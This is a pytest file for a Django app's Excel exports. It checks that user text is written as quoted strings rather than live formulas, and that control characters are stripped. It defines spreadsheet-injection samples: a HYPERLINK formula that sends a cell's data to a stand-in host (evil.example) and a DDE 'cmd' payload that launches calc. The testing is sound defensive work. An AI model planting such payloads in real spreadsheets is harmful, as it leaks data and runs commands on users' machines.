"""Users' text in our workbooks is text: never a live formula, never a character XML cannot
hold (issue 12 items 3 and 4)."""

import io

import pytest
from openpyxl import Workbook

from projects.models import Project
from supervision.models import Task
from tests import factories
from tests.excel.conftest import (
    PROJECTS_XLSX,
    TASKS_XLSX,
    TEMPLATE,
    post_sheet,
    read_xlsx,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"详情")'
CMD = "=cmd|' /C calc'!A0"
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def text_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield cell


def assert_no_formulas(wb):
    cells = list(text_cells(wb))
    assert cells
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell.quotePrefix, (cell.coordinate, cell.value)


def find(wb, value):
    return next(cell for cell in text_cells(wb) if cell.value == value)


def test_a_unit_set_through_the_api_is_exported_as_text(supervisor_api, department):
    task = factories.TaskFactory(lead_department=department)
    response = supervisor_api.patch(
        f"/api/v1/tasks/{task.pk}/", {"target_unit": CMD[:20]}, format="json"
    )
    assert response.status_code == 200, response.content[:300]
    wb = read_xlsx(supervisor_api.get(TASKS_XLSX))
    cell = find(wb, CMD[:20])
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert_no_formulas(wb)


def test_a_title_imported_from_a_sheet_is_exported_as_text(supervisor_api, department):
    wb = Workbook()
    ws = wb.active
    ws.append(["编号", "事项名称", "来源", "报表类别", "牵头单位", "办理时限"])
    ws.append(["X-1", HYPERLINK, "领导批示", "经济", department.code, "2024-12-31"])
    ws["B2"].data_type = "s"  # the attacker's cell: a string that looks like a formula
    out = io.BytesIO()
    wb.save(out)
    response = post_sheet(supervisor_api, out.getvalue())
    assert response.status_code == 201, response.content[:500]
    assert Task.objects.get(code="X-1").title == HYPERLINK

    exported = read_xlsx(supervisor_api.get(TASKS_XLSX))
    cell = find(exported, HYPERLINK)
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert_no_formulas(exported)


@pytest.mark.parametrize("start", STARTS)
def test_every_text_column_of_both_ledgers_is_text(supervisor_api, start):
    department = factories.DepartmentFactory(name=f"{start}单位", short_name=f"{start}简")
    project = factories.ProjectFactory(lead_department=department, name=f"{start}项目")
    factories.TaskFactory(
        lead_department=department,
        project=project,
        title=f"{start}标题",
        target_unit=f"{start}"[:20],
    )
    for url in (TASKS_XLSX, PROJECTS_XLSX):
        assert_no_formulas(read_xlsx(supervisor_api.get(url)))


def test_the_template_writes_department_names_as_text(supervisor_api):
    factories.DepartmentFactory(code="A01", name="=1+2", short_name="@x")
    wb = read_xlsx(supervisor_api.get(TEMPLATE))
    assert find(wb, "=1+2").quotePrefix
    assert_no_formulas(wb)


def test_control_characters_already_stored_do_not_break_any_workbook(supervisor_api):
    """Refused at input now; rows written before (or by other paths) are still exported."""
    department = factories.DepartmentFactory(code="A00", name="坏\x01单位", short_name="坏\x02")
    project = factories.ProjectFactory(lead_department=department, name="项目\x0b名")
    factories.TaskFactory(lead_department=department, project=project, title="标题\x07甲")
    Project.objects.filter(pk=project.pk).update(target_text="说明\x1f")
    for url in (TEMPLATE, TASKS_XLSX, PROJECTS_XLSX):
        wb = read_xlsx(supervisor_api.get(url))
        values = [cell.value for cell in text_cells(wb)]
        assert not any(ch in value for value in values for ch in "\x01\x02\x07\x0b\x1f")
    wb = read_xlsx(supervisor_api.get(TASKS_XLSX))
    assert find(wb, "标题甲")
    assert find(wb, "坏单位")


# Query parameters a workbook route needs to answer 200 (add yours here).
WORKBOOK_PARAMS: dict[str, dict] = {}


def workbook_urls() -> list[str]:
    """Every parameterless route of the project that serves a workbook (``….xlsx``), so an
    export added later is held to the same rule without being listed here."""
    from django.urls import URLPattern, URLResolver, get_resolver

    found = []

    def walk(patterns, prefix):
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, route)
            elif isinstance(pattern, URLPattern) and ".xlsx" in route and "<" not in route:
                found.append("/" + route.lstrip("^").rstrip("$").replace("\\", ""))

    walk(get_resolver().url_patterns, "")
    return sorted(set(found))


def test_every_workbook_the_project_serves_writes_users_text_as_text(
    supervisor_api, supervisor_client
):
    """Issue 12 item 3, "in every export and the template": the hostile names of the issue
    in a unit, a project and a task; each workbook route answers, and no cell is a formula."""
    department = factories.DepartmentFactory(code="Z99", name=CMD, short_name="@x")
    project = factories.ProjectFactory(lead_department=department, name=HYPERLINK)
    factories.TaskFactory(lead_department=department, project=project, title=HYPERLINK)
    urls = workbook_urls()
    assert {TASKS_XLSX, PROJECTS_XLSX, TEMPLATE} <= set(urls)
    for url in urls:
        client = supervisor_api if url.startswith("/api/") else supervisor_client  # cockpit
        response = client.get(url, WORKBOOK_PARAMS.get(url, {}))
        assert response.status_code == 200, (url, response.content[:300])
        assert_no_formulas(read_xlsx(response))
